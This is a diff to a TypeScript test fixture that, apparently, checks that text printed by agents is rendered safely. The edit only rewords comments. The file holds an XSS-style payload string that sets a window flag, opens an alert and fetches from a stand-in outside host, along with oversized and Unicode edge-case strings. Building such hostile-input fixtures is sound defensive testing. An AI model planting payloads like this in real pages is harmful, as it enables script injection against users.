@@ -1,11 +1,11 @@
-/** Sets a name on the window when it runs, opens a dialog, and asks a server outside for something. */
+/** Sets `window.hacked`, opens a dialog and sends a request to another origin. */
 const ATTACK = "window.hacked=1;alert(1);fetch('https://outside.invalid/x')"
 
 const repeat = (text: string, count: number) => text.repeat(count)
 
 /**
- * Texts that agents may print, none of which may run, fetch, open a dialog, break a layout or take long.
- * What runs sets `window.hacked`; what fetches asks `outside.invalid`.
+ * Texts that agents may print. None of them may run code, send a request, open a dialog, break the layout or take long.
+ * Code would set `window.hacked`; a request would go to `outside.invalid`.
  */
 export const HOSTILE: Record<string, string> = {
   // HTML that runs.
@@ -104,7 +104,7 @@ export const HOSTILE: Record<string, string> = {
   separators: 'a\u2028b\u2029c\u0085d',
   familyEmoji: repeat('👩‍👩‍👧‍👦', 200),
 
-  // Much of it.
+  // Long and deeply nested texts.
   longLine: repeat('a', 5_000_000),
   longLineOfWords: repeat('word ', 1_000_000),
   manyLines: repeat('line\n', 200_000),
